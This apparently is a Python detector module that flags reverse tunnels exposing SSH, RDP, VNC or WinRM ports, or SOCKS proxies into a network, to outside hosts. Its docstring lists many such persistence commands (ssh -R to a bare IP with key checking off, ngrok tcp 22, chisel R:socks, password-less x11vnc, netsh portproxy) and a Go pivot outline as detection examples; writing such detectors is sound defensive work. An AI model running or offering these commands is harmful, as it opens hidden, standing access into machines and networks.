"""ACT-REVERSE-TUNNEL: a machine's remote-login port, or a proxy into its network, opened to
another host by a reverse tunnel.

What it catches
    A reverse forward listening on every address of the far host (`0.0.0.0:`, `*:`, an empty
    address) whose other end is SSH, RDP, VNC or WinRM on this machine or its network (`ssh -f
    -N -R 0.0.0.0:2222:127.0.0.1:22 relay@203.0.113.9`, `autossh -M 0 -R`, `plink.exe -R
    0.0.0.0:3389:127.0.0.1:3389`, `chisel client HOST R:2222:127.0.0.1:22`, whose reverse
    remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
    22`, `ngrok.exe tcp 3389`, a quick tunnel with no sign-in in front: `cloudflared tunnel --url ssh://localhost:22`,
    `rdp://`, `tcp://`; `bore local 22 --to`) or published as an onion service (torrc's
    `HiddenServicePort 2222 127.0.0.1:22`, tor's `--HiddenServicePort 3389`); also on any
    address (the far host's loopback too) of a public host named only by
    its number whose key is left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
    2222:localhost:22 tunnel@203.0.113.45`), or signed in to with a key hidden in a temp folder
    (`-i /tmp/.k`): a relay nobody vouches for. A reverse SOCKS proxy,
    which opens the whole network behind the machine to the far
    host: chisel's reverse `R:socks` remote (a copy renamed too, read by that syntax alone:
    `/dev/shm/.c client https://relay R:socks`), SSH's reverse dynamic forward (`ssh -R 1080
    relay`, also by a copy of ssh renamed, read by ssh's own `-o` options), revsocks. As an
    agent action this is refused outright; in a response it is one piece, weighed with the
    request, unless it is made to start at every boot (a systemd unit, a cron `@reboot`).
    Windows relaying a login port of another machine of its
    network from every address of its own (`netsh interface portproxy add v4tov4
    listenaddress=0.0.0.0 connectport=3389 connectaddress=10.10.5.20`). The same door without
    a tunnel: the live desktop served
    over VNC to every address with no password (`x11vnc -display :0 -forever -nopw`,
    TigerVNC's `-SecurityTypes None`). Code that builds the pivot itself is whole in a response
    too: a connection dialed out (through egress that lets HTTPS go) whose stream multiplexer
    it serves as the server side, each stream the far end opens answered as a SOCKS request
    into the network (`conn, _ := tls.Dial(...)`, `sess, _ := yamux.Server(conn, nil)`, `go
    socks.ServeConn(stream)`; `mux_proxy.py`).

Why it is a redline (RL-PERSISTENCE)
    Whoever holds the other end can log in to the machine from outside, through the firewall
    and without a trace at the network edge: a standing way back in (ATT&CK T1572, protocol
    tunnelling; T1021, remote services).

Example
    `ssh -f -N -o StrictHostKeyChecking=no -R 0.0.0.0:2222:127.0.0.1:22 tunnel@203.0.113.150`

Allowed instead
    Local forwards to reach a service oneself (`ssh -L 5432:localhost:5432 bastion`), sharing
    a development web server through a reverse forward or tunnel (`ssh -R 8080:localhost:3000
    demo@tunnel.example.com`, `ngrok http 3000`), a jump host (`ssh -J bastion app01`), a
    reverse forward of one's own SSH to one's own server's loopback (`autossh -R
    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there; its
    key known or accepted once, `StrictHostKeyChecking=accept-new`), a
    SOCKS proxy of one's own to reach a network through a bastion, started at boot or not
    (`ssh -D 1080 bastion`,
    chisel's forward `1080:socks`), a development tunnel client that dials out and serves its
    own local web app over the multiplexer, an onion service or a named tunnel serving a web
    port (`HiddenServicePort 80 127.0.0.1:8080`, `cloudflared tunnel run` with its access
    policy, `--url http://localhost:5173`), a VNC server bound to loopback for an SSH tunnel
    (`x11vnc -localhost -nopw`) or asking for its password (`-rfbauth`), a port proxy to a
    WSL or Hyper-V guest (172.16/12) or to a web port.
"""

from __future__ import annotations

import re

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import (
    Detection,
    action_or_part,
    detector,
    one_piece,
    supported,
)

STARTED_AT_BOOT_REACH = 1200
"""How far (characters) in a response the reverse proxy may stand from what starts it at boot
(the unit file written around its `ExecStart=`, the `systemctl enable` after it)."""


@detector("ACT-REVERSE-TUNNEL", redline="RL-PERSISTENCE")
def reverse_tunnel(found: Capabilities) -> Detection | None:
    """A remote-login port or a SOCKS proxy exposed by a reverse tunnel (action), or part of an
    artifact; a pivot built in code."""
    built = found.first(Cap.PIVOT_BUILT)
    if built is not None:
        return Detection(0.8, (built,), "a SOCKS proxy served over a connection dialed out")
    if Cap.LOGIN_PORT_EXPOSED in found:
        exposed = found.hits[Cap.LOGIN_PORT_EXPOSED]
        reason = Cap.LOGIN_PORT_EXPOSED.value
        if exposed and all(_VNC_SERVER.match(hit.text) for hit in exposed):
            # No tunnel: the desktop's own VNC server, open to every address with no password.
            reason = "serves the live desktop over VNC to any address, with no password"
        return supported(found, action_or_part(found, 0.85), (Cap.LOGIN_PORT_EXPOSED,), reason)
    if (
        found.kind == "response"
        and Cap.PROXY_INTO_NETWORK in found
        and found.near(Cap.PROXY_INTO_NETWORK, Cap.AUTORUN, STARTED_AT_BOOT_REACH)
    ):
        # The proxy into the network made a service that starts at every boot: a standing
        # way into the network behind the machine, whole in a response too.
        return supported(
            found,
            0.8,
            (Cap.PROXY_INTO_NETWORK, Cap.AUTORUN),
            "a reverse SOCKS proxy into its network, started at every boot",
        )
    return one_piece(found, Cap.PROXY_INTO_NETWORK, 0.85)


_VNC_SERVER = re.compile(r"(?:x11vnc|x0vncserver|vncserver|Xvnc)\b", re.I)
"""A VNC server's own command line (`LOGIN_PORT_EXPOSED` without any tunnel)."""
